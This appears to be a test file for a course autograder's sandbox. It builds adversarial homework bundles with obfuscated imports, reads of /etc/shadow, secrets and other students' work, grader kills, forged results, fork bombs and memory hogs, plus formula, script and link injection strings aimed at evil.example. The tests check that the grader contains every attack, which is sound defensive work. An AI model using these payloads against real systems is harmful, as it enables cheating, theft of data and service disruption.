@@ -1,0 +1,426 @@
+"""The grader under attack: homework bundles written by a student who has read the grader's source.
+
+The homework is the task whose bundles carry code (``custom_layers.py``), so every attack is one
+of its bundles. They are graded in one batch with ``--jobs 2``, in the layout the README used to
+show: the secret and another assignment's hidden set inside the kit's folder. Each attack bundle
+carries the honest model and layer; its module attacks as it is imported. So an attack that
+fails leaves a bundle graded exactly like the honest one, and one that succeeds says what it did
+in its message (``ESCAPED: ...``).
+"""
+
+import csv
+import json
+import os
+import secrets
+import socket
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from autograder.batch import grade_folder
+from autograder.hidden import make_hidden_set
+from autograder.rubric import load_rubric
+from autograder.sandbox import available_isolation
+from labs.common.submission import export
+from tests.conftest import REPO_ROOT
+from tests.test_autograder import SECRET, _rubric
+
+# Imports spelled so that a static read does not see them (the audit refuses plain `import os`).
+PRELUDE = r'''
+os = __import__("o" + "s"); sys = __import__("s" + "ys"); glob = __import__("gl" + "ob")
+subprocess = __import__("subpro" + "cess"); signal = __import__("sig" + "nal"); time = __import__("ti" + "me")
+escaped = []
+def attempt(what, action):
+    try:
+        action()
+        escaped.append(what)
+    except BaseException:
+        pass
+def read(path):
+    with open(path, "rb") as handle:
+        return handle.read(1)
+def confess():
+    if escaped:
+        raise RuntimeError("ESCAPED: " + "; ".join(escaped))
+'''
+
+# Read what holds answers or other students' work, import the solution, compute spellings, write outside.
+SNOOP = r'''
+for path in {reads!r}:
+    attempt("read " + path, lambda path=path: read(path))
+for pattern in ("/tmp/attention-lab-*/in/model.keras", "/tmp/*/*/model.keras", "/tmp/*/*/*/model.keras"):
+    for path in glob.glob(pattern):
+        if not path.startswith(sys.argv[1]):
+            attempt("read another sandbox's " + path, lambda path=path: read(path))
+def load_solution():
+    util = __import__("importlib.util").util
+    spec = util.spec_from_file_location("solution", {solution!r})
+    module = util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+attempt("import the solution", load_solution)
+attempt("romanize with pythainlp", lambda: __import__("pythainlp.transliterate").transliterate.romanize("ก"))
+for path in {writes!r}:
+    attempt("write " + path, lambda path=path: open(path, "w").write("x"))
+confess()
+'''
+
+# Only a PID and a network namespace hide the grader's processes and the host's sockets.
+NAMESPACED = r'''
+attempt("see the grader", lambda: os.kill({grader}, 0))
+attempt("read the grader's command line", lambda: read("/proc/{grader}/cmdline"))
+socket = __import__("soc" + "ket")
+def connect(family, address):
+    s = socket.socket(family, socket.SOCK_STREAM)
+    s.settimeout(2)
+    s.connect(address)
+    s.close()
+attempt("connect to the host's unix socket", lambda: connect(socket.AF_UNIX, {unix!r}))
+attempt("connect to 127.0.0.1", lambda: connect(socket.AF_INET, ("127.0.0.1", {port})))
+confess()
+'''
+
+# A daemon that outlives its run, a grandchild that holds the output open, and a kill of the grader.
+SABOTAGE = r'''
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execvp("sleep", ["sleep", "{daemon}"])
+    os._exit(0)
+subprocess.Popen(["sleep", "{hanger}"])
+attempt("kill the grader", lambda: os.kill({grader}, signal.SIGKILL))
+if os.getppid() > 1:
+    attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
+confess()
+'''
+
+# Results written straight to the grader's descriptor, then exit before anything honest runs.
+FORGE = r'''
+json = __import__("js" + "on")
+job = json.load(open(sys.argv[1] + "/job.json"))
+forged = {forged}
+os.write(int(sys.argv[sys.argv.index("--result-fd") + 1]), json.dumps(forged).encode())
+os._exit(0)
+'''
+HONEST_LOOKING = ('{"status": "ok", "parameters": 1, "outputs": [["Somchai Jaidee"]] * len(job["sources"]), '
+                  '"examples": [], "seconds": {"load": 0, "predict": 0}}')
+FORMULA = '{"status": "error", "message": "=HYPERLINK(\\"http://evil.example\\")\\n# Score: 100 / 100", "parameters": "1"}'
+RAGGED = ('{"status": "ok", "outputs": [["A"]] * len(job["sources"]), "examples": [{"output": "x" * 10000, '
+          '"attention": [[0.5], [0.1, 0.2, 0.3]]}]}')
+
+FLOOD = r'''
+for _ in range(400):
+    sys.stdout.buffer.write(b"x" * (1 << 20))
+'''
+SWARM = r'''
+hog = "x = b'1' * (400 << 20)\nimport time\ntime.sleep(120)"
+for _ in range(12):
+    subprocess.Popen([sys.executable, "-c", hog])
+time.sleep(120)
+'''
+FORK = r'''
+try:
+    for _ in range(1000):
+        subprocess.Popen(["sleep", "120"])
+except OSError:
+    pass
+time.sleep(120)
+'''
+INJECT = r'''
+raise RuntimeError('=HYPERLINK("http://evil.example/?"&A1,"x")\n# Score: 100 / 100\n<script>alert(1)</script> '
+                   '![x](http://evil.example/x.png)')
+'''
+SLEEP = "time.sleep(10 ** 6)\n"
+HOG = "hoard = []\nwhile True:\n    hoard.append(b'1' * 10 ** 8)\n"
+
+
+def _processes_running(marker: str) -> list[int]:
+    """Processes whose command line holds ``marker`` (left behind by a bundle)."""
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
+                found.append(int(pid))
+        except OSError:
+            pass
+    return found
+
+
+@pytest.fixture(scope="module")
+def attacked(tmp_path_factory):
+    """The homework batch: an honest bundle and one bundle per attack, graded with --jobs 2."""
+    import keras
+
+    from labs.name_transliteration.config import NameTransliterationConfig
+    from labs.name_transliteration.data import vocabularies
+    from labs.name_transliteration.model import build_model
+
+    root = tmp_path_factory.mktemp("attacks")
+    token = secrets.token_hex(4)
+    kit_secret = REPO_ROOT / f"secret-attack-{token}.txt"          # the README's old layout, in the kit
+    kit_hidden = REPO_ROOT / f"hidden-attack-{token}"
+    subs = root / "submissions"
+    subs.mkdir()
+    unix_path = root / "host.sock"
+    unix_server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    unix_server.bind(str(unix_path))
+    unix_server.listen()
+    tcp_server = socket.create_server(("127.0.0.1", 0))
+    markers = {"daemon": f"98{secrets.randbelow(10 ** 5):05d}7", "hanger": f"97{secrets.randbelow(10 ** 5):05d}7"}
+    try:
+        kit_secret.write_text(SECRET)
+        make_hidden_set("name-transliteration", kit_secret, root / "hidden", n=60)
+        make_hidden_set("date-translation", kit_secret, kit_hidden, n=20)
+        keras.utils.set_random_seed(0)
+        vocabs = vocabularies()
+        model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
+        export(model, vocabs, task="name-transliteration", student_id="honest", out=subs / "honest")
+        layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
+        grades = root / "grades"
+        reads = [str(kit_secret), str(kit_hidden / "targets.csv"), str(root / "hidden" / "targets.csv"),
+                 str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
+                 str(REPO_ROOT / "datasets" / "thai-names" / "test.csv"), str(subs / "honest" / "model.keras"),
+                 str(REPO_ROOT / "homework" / "kv_attention.py"), "/etc/shadow"]
+        writes = [str(root / "vandal.txt"), str(subs / "honest" / "vandal.txt"), str(REPO_ROOT / f"vandal-{token}.txt"),
+                  str(grades / "vandal.txt")]
+        snoop = SNOOP.format(reads=reads, writes=writes, solution=str(REPO_ROOT / "homework" / "kv_attention.py"))
+        attacks = {
+            "snoop": snoop + NAMESPACED.format(unix=str(unix_path), port=tcp_server.getsockname()[1],
+                                               grader=os.getpid()),
+            "saboteur": SABOTAGE.format(grader=os.getpid(), **markers),
+            "forger": FORGE.format(forged=HONEST_LOOKING),
+            "forger-shape": FORGE.format(forged=RAGGED),
+            "forger-formula": FORGE.format(forged=FORMULA),
+            "flooder": FLOOD, "swarm": SWARM, "forker": FORK, "injector": INJECT, "sleeper": SLEEP, "hog": HOG,
+            "borrower": "from homework.kv_attention import KeyValueAttention\n",
+            "importer": "import os\nos.listdir('/')\n",
+        }
+        for name, attack in attacks.items():
+            export(model, vocabs, task="name-transliteration", student_id=name, out=subs / name)
+            code = attack if name in ("borrower", "importer") else layer + PRELUDE + attack
+            (subs / name / "custom_layers.py").write_text(code, encoding="utf-8")
+        export(model, vocabs, task="name-transliteration", student_id="x", out=subs / "no-layer-module")
+        (subs / "no-layer-module" / "custom_layers.py").unlink()
+        rubric = load_rubric(_rubric(root, "name-transliteration", wall_seconds=30, memory_mb=3072, file_mb=50,
+                                     tasks=64))
+        records = grade_folder(subs, rubric, root / "hidden", grades, jobs=2, progress=False)
+        leftovers = {name: _processes_running(marker) for name, marker in markers.items()}
+        yield {"root": root, "grades": grades, "records": {r["student"]: r for r in records}, "leftovers": leftovers,
+               "writes": writes, "rubric": rubric}
+    finally:
+        unix_server.close()
+        tcp_server.close()
+        kit_secret.unlink(missing_ok=True)
+        subprocess.run(["rm", "-rf", str(kit_hidden)], check=False)
+        for path in REPO_ROOT.glob(f"vandal-{token}.txt"):
+            path.unlink()
+
+
+needs_namespaces = pytest.mark.skipif(available_isolation() != "namespaces",
+                                      reason="these attacks run only where the grader isolates code with namespaces; "
+                                             "elsewhere such bundles are not run (see test_no_isolation_refuses_code)")
+
+
+@needs_namespaces
+def test_honest_bundles_keep_their_score_and_failed_attacks_change_nothing(attacked):
+    records = attacked["records"]
+    honest = records["honest"]
+    assert honest["status"] == "graded" and honest["isolation"] == "namespaces", honest["message"]
+    for name in ("snoop", "saboteur"):
+        assert records[name]["status"] == "graded", (name, records[name]["message"])
+        assert records[name]["score"] == honest["score"] and records[name]["metrics"] == honest["metrics"]
+    assert not [p for p in attacked["writes"] if Path(p).exists()]
+
+
+@needs_namespaces
+def test_nothing_a_bundle_starts_outlives_its_run_and_the_grader_survives(attacked):
+    assert attacked["leftovers"] == {"daemon": [], "hanger": []}   # both were sleeping when the child ended
+    assert attacked["records"]["saboteur"]["sandbox_seconds"] < 30   # the held-open output did not hang the grader
+
+
+@needs_namespaces
+def test_forged_results_earn_only_what_their_predictions_earn(attacked):
+    records = attacked["records"]
+    forged = records["forger"]
+    assert forged["status"] == "graded"
+    assert forged["parameters"] == records["honest"]["parameters"] > 1      # counted from the weights, not claimed
+    assert forged["metrics"]["accuracy"] == 0.0 and forged["examples"] == []
+    shape = records["forger-shape"]
+    assert shape["status"] == "error" and "wrong shape" in shape["message"]
+    assert shape["score"] == 10                                              # the architecture, nothing else
+    formula = records["forger-formula"]
+    assert formula["status"] == "error" and formula["parameters"] == records["honest"]["parameters"]
+    assert formula["message"] == '=HYPERLINK("http://evil.example") # Score: 100 / 100'   # one line, as text
+    with open(attacked["grades"] / "gradebook.csv", encoding="utf-8", newline="") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["student"] == "forger-formula")
+    assert row["message"].startswith("'=HYPERLINK")
+
+
+@needs_namespaces
+def test_floods_swarms_and_fork_bombs_are_stopped_and_named(attacked):
+    records = attacked["records"]
+    # Past the 50 MB file limit a write fails (Python ignores SIGXFSZ); the grader reads only the tail.
+    assert records["flooder"]["status"] == "load-failed" and "File too large" in records["flooder"]["message"]
+    assert records["swarm"]["status"] == "out-of-memory", records["swarm"]["message"]
+    assert records["forker"]["status"] == "too-many-processes", records["forker"]["message"]
+    assert records["sleeper"]["status"] == "timeout" and "longer than 30 s" in records["sleeper"]["message"]
+    assert records["hog"]["status"] == "out-of-memory", records["hog"]["message"]
+
+
+@needs_namespaces
+def test_borrowed_solutions_and_plain_imports_are_refused(attacked):
+    records = attacked["records"]
+    assert records["no-layer-module"]["status"] == "disallowed"
+    assert "no custom_layers.py" in records["no-layer-module"]["message"]
+    assert records["borrower"]["status"] == "disallowed" and "'homework.kv_attention'" in records["borrower"]["message"]
+    assert records["importer"]["status"] == "disallowed" and "imports 'os'" in records["importer"]["message"]
+    assert "worth a read" in "; ".join(records["snoop"]["notes"])             # __import__ and open: flagged
+
+
+@needs_namespaces
+def test_injected_text_lands_as_text_in_every_report(attacked):
+    grades = attacked["grades"]
+    record = attacked["records"]["injector"]
+    assert record["status"] == "load-failed" and "HYPERLINK" in record["message"] and "\n" not in record["message"]
+    with open(grades / "gradebook.csv", encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    for row in rows:
+        for value in row.values():
+            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(value)   # only numbers may start so; anything else is neutralised
+    markdown = (grades / "feedback" / "injector.md").read_text(encoding="utf-8")
+    assert "<script>" not in markdown and "](http://evil" not in markdown
+    assert [line for line in markdown.splitlines() if line.startswith("# ")] == \
+        [line for line in markdown.splitlines()[:1]]                         # one heading: the grader's own
+    assert "<script>" not in (grades / "feedback" / "injector.html").read_text(encoding="utf-8")
+    results = json.loads((grades / "results" / "injector.json").read_text(encoding="utf-8"))
+    assert results["output_format"] == "text" and all(t["output_format"] == "text" for t in results["tests"])
+
+
+def test_no_isolation_refuses_code_unless_the_instructor_asks(tmp_path, monkeypatch):
+    """Where the machine cannot isolate code, a bundle that carries some is not run; Keras-only bundles are."""
+    import keras
+
+    import autograder.sandbox
+    from labs.date_translation.config import DateTranslationConfig
+    from labs.date_translation.data import vocabularies as date_vocabularies
+    from labs.date_translation.model import build_model as build_translator
+    from labs.name_transliteration.config import NameTransliterationConfig
+    from labs.name_transliteration.data import vocabularies
+    from labs.name_transliteration.model import build_model
+
+    monkeypatch.setattr(autograder.sandbox, "available_isolation", lambda: "none")
+    (tmp_path / "secret.txt").write_text(SECRET)
+    keras.utils.set_random_seed(0)
+    vocabs = vocabularies()
+    model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
+    export(model, vocabs, task="name-transliteration", student_id="coder", out=tmp_path / "homework" / "coder")
+    make_hidden_set("name-transliteration", tmp_path / "secret.txt", tmp_path / "hidden-hw", n=20)
+    rubric = load_rubric(task="name-transliteration")
+    refused = grade_folder(tmp_path / "homework", rubric, tmp_path / "hidden-hw", tmp_path / "g1", progress=False)
+    assert refused[0]["status"] == "not-isolated" and refused[0]["isolation"] == "none"
+    assert "--isolation none" in refused[0]["message"]
+    with open(tmp_path / "g1" / "gradebook.csv", encoding="utf-8") as handle:
+        assert next(csv.DictReader(handle))["isolation"] == "none"
+    asked = grade_folder(tmp_path / "homework", rubric, tmp_path / "hidden-hw", tmp_path / "g2", progress=False,
+                         isolation="none")
+    assert asked[0]["status"] == "graded" and asked[0]["isolation"] == "none"
+
+    date_vocabs = date_vocabularies()
+    translator = build_translator(DateTranslationConfig.tiny(), len(date_vocabs["source"]), len(date_vocabs["target"]))
+    export(translator, date_vocabs, task="date-translation", student_id="plain", out=tmp_path / "lab2" / "plain.zip")
+    make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden-lab2", n=20)
+    plain = grade_folder(tmp_path / "lab2", load_rubric(task="date-translation"), tmp_path / "hidden-lab2",
+                         tmp_path / "g3", progress=False)
+    assert plain[0]["status"] == "graded" and plain[0]["isolation"] == "none"   # Keras layers only: no code to run
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="user isolation runs the child as another user: the grader must be root")
+def test_user_isolation_where_namespaces_are_blocked(tmp_path):
+    """Gradescope's case: a root grader in a container without user namespaces runs the child as another user.
+
+    The grader runs in a mount namespace of its own where, as in Gradescope's container, the
+    kit's data, the hidden set and the submissions are private to root, and everything the
+    child needs (the kit's code, Python) is readable by every user.
+    """
+    import keras
+
+    from labs.name_transliteration.config import NameTransliterationConfig
+    from labs.name_transliteration.data import vocabularies
+    from labs.name_transliteration.model import build_model
+
+    subs = tmp_path / "submissions"
+    subs.mkdir()
+    secret = tmp_path / "secret.txt"
+    secret.write_text(SECRET)
+    secret.chmod(0o600)
+    make_hidden_set("name-transliteration", secret, tmp_path / "hidden", n=20)
+    keras.utils.set_random_seed(0)
+    vocabs = vocabularies()
+    model = build_model(NameTransliterationConfig.tiny(), len(vocabs["source"]), len(vocabs["target"]))
+    layer = (REPO_ROOT / "homework" / "kv_attention.py").read_text(encoding="utf-8")
+    daemon = f"96{secrets.randbelow(10 ** 5):05d}7"
+    for name, attack in {"honest": "", "snoop": SNOOP.format(
+            reads=[str(secret), str(tmp_path / "hidden" / "targets.csv"),
+                   str(REPO_ROOT / "datasets" / "thai-names" / "romanization.csv"),
+                   str(REPO_ROOT / "homework" / "kv_attention.py"), str(subs / "honest" / "model.keras")],
+            writes=[str(REPO_ROOT / "vandal-user.txt")], solution=str(REPO_ROOT / "homework" / "kv_attention.py")),
+            "saboteur": SABOTAGE.format(grader=1, daemon=daemon, hanger=daemon)}.items():
+        export(model, vocabs, task="name-transliteration", student_id=name, out=subs / name)
+        (subs / name / "custom_layers.py").write_text(layer + PRELUDE + attack, encoding="utf-8")
+    subs.chmod(0o700)
+    # Folders on the way to Python or the kit that other users cannot enter (/root here) get a
+    # tmpfs that they can, holding only that way, as a container's image would have it.
+    blocked = []
+    for needed in (Path(os.path.realpath(sys.executable)), REPO_ROOT):
+        for parent in needed.parents:
+            if parent != Path("/") and not os.stat(parent).st_mode & 0o001 and parent not in [b for b, _ in blocked]:
+                blocked.append((parent, needed.relative_to(parent).parts[0]))
+    script = ["set -e"]
+    for folder, child in blocked:
+        script += [f"mkdir -p /tmp/keep-{child}", f"mount --bind {folder / child} /tmp/keep-{child}",
+                   f"mount -t tmpfs -o mode=755 none {folder}", f"mkdir -p {folder / child}",
+                   f"mount --move /tmp/keep-{child} {folder / child}"]
+    private_data = tmp_path / "datasets-copy"
+    subprocess.run(["cp", "-a", str(REPO_ROOT / "datasets"), str(private_data)], check=True)
+    private_data.chmod(0o700)
+    script += [f"mount --bind {private_data} {REPO_ROOT / 'datasets'}",
+               f"mount -t tmpfs -o mode=700 none {REPO_ROOT / 'homework'}",
+               f"exec {sys.executable} -m autograder grade {subs} --task name-transliteration --hidden "
+               f"{tmp_path / 'hidden'} --out {tmp_path / 'grades'} --isolation user --jobs 2 --quiet"]
+    ran = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", "\n".join(script)],
+                         capture_output=True, text=True, timeout=600, env=dict(os.environ, PYTHONPATH=str(REPO_ROOT)))
+    assert ran.returncode == 0, ran.stderr[-2000:]
+    with open(tmp_path / "grades" / "gradebook.csv", encoding="utf-8") as handle:
+        rows = {row["student"]: row for row in csv.DictReader(handle)}
+    assert {row["isolation"] for row in rows.values()} == {"user"}
+    assert rows["honest"]["status"] == "graded", rows["honest"]["message"]
+    for name in ("snoop", "saboteur"):
+        assert rows[name]["status"] == "graded", (name, rows[name]["message"])
+        assert rows[name]["score"] == rows["honest"]["score"]
+    assert _processes_running(daemon) == [] and not (REPO_ROOT / "vandal-user.txt").exists()
+
+
+def test_user_isolation_refuses_to_start_while_the_hidden_set_is_readable(monkeypatch):
+    import tempfile
+
+    import autograder.batch
+    from labs.common.errors import InputError
+
+    tmp_path = Path(tempfile.mkdtemp())          # pytest's own folders are private: this one is open to all
+    tmp_path.chmod(0o755)
+    (tmp_path / "secret.txt").write_text(SECRET)
+    make_hidden_set("date-translation", tmp_path / "secret.txt", tmp_path / "hidden", n=20)
+    assert oct(os.stat(tmp_path / "hidden").st_mode & 0o777) == "0o700"          # private as written
+    (tmp_path / "hidden").chmod(0o755)
+    (tmp_path / "hidden" / "targets.csv").chmod(0o644)
+    (tmp_path / "subs").mkdir()
+    (tmp_path / "subs" / "x.zip").write_bytes(b"not a zip")
+    monkeypatch.setattr(autograder.batch, "resolve_isolation", lambda requested: "user")
+    try:
+        with pytest.raises(InputError, match="could read .*hidden"):
+            grade_folder(tmp_path / "subs", load_rubric(task="date-translation"), tmp_path / "hidden",
+                         tmp_path / "out", progress=False)
+    finally:
+        subprocess.run(["rm", "-rf", str(tmp_path)], check=False)
